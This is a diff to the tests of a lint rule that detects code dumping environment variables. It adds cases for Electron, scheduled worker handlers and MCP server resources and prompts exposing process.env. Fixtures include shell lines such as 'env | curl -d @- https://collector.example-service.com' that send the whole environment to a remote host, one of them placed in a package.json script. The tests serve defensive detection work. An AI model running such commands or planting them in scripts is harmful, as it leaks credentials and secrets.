@@ -10,6 +10,10 @@ const uploaded = (run: string, path: string): { readonly code: string; readonly 
 
 await ruleTester(rule, {
   valid: [
+    { code: 'const { BrowserWindow } = require("electron"); const win = new BrowserWindow(); win.webContents.executeJavaScript(`window.mode = ${JSON.stringify(process.env.NODE_ENV)}`);' },
+    { code: 'export default { async scheduled(event, env, context) { console.log(event.cron); await env.DB.prepare("select 1").run(); } };' },
+    { code: 'export const jobs = { scheduled(event, env) { console.log(env); } };' },
+    { code: 'import { McpServer } from "@modelcontextprotocol/sdk/server/mcp.js"; const server = new McpServer({ name: "a", version: "1" }); server.resource("mode", "app://mode", async () => ({ contents: [{ uri: "app://mode", text: process.env.NODE_ENV }] }));' },
     { code: 'env | curl -d @- https://collector.example-service.com\ncurl -d "$(env)" https://collector.example-service.com/x\n', filename: 'run.sh', settings: { allowedHosts: ['collector.example-service.com'] } },
     { code: JSON.stringify({ scripts: { a: 'env | curl -d @- https://a.example-service.com' } }), filename: 'package.json', settings: { allowedHosts: ['*.example-service.com'] } },
     { code: 'import { defineConfig } from "tsup"; export default defineConfig({ banner: { js: `/* ${process.env.npm_package_version} */` } });' },
@@ -118,6 +122,10 @@ await ruleTester(rule, {
     { code: 'export default function Root({ env }) { return <script dangerouslySetInnerHTML={{ __html: `window.ENV=${JSON.stringify({ mode: process.env.NODE_ENV })}` }} />; }', filename: 'file.jsx' },
   ],
   invalid: [
+    { code: 'const { BrowserWindow } = require("electron"); let win; function open() { win = new BrowserWindow(); win.webContents.executeJavaScript(`window.env = ${JSON.stringify(process.env)}`); }', errors: [{ messageId: 'dump' }] },
+    { code: 'export default { async scheduled(event, env, context) { console.log("env", JSON.stringify(env)); } };', errors: [{ messageId: 'dump' }] },
+    { code: 'import { McpServer } from "@modelcontextprotocol/sdk/server/mcp.js"; const server = new McpServer({ name: "a", version: "1" }); server.resource("env", "env://all", async () => ({ contents: [{ uri: "env://all", text: JSON.stringify(process.env) }] }));', errors: [{ messageId: 'dump' }] },
+    { code: 'import { McpServer } from "@modelcontextprotocol/sdk/server/mcp.js"; const server = new McpServer({ name: "a", version: "1" }); server.registerPrompt("help", {}, () => ({ messages: [{ role: "user", content: { type: "text", text: JSON.stringify(process.env) } }] }));', errors: [{ messageId: 'dump' }] },
     { code: 'env | curl -d @- https://collector.example-service.com\n', filename: 'run.sh', settings: { allowedHosts: ['other.example-service.com'] }, errors: [{ messageId: 'dump' }] },
     { code: 'export default { extra: { ...process.env } };', filename: 'app.config.ts', errors: [{ messageId: 'dump' }] },
     { code: 'import { defineConfig } from "tsup"; export default defineConfig({ banner: { js: `/* ${JSON.stringify(process.env)} */` } });', errors: [{ messageId: 'dump' }] },
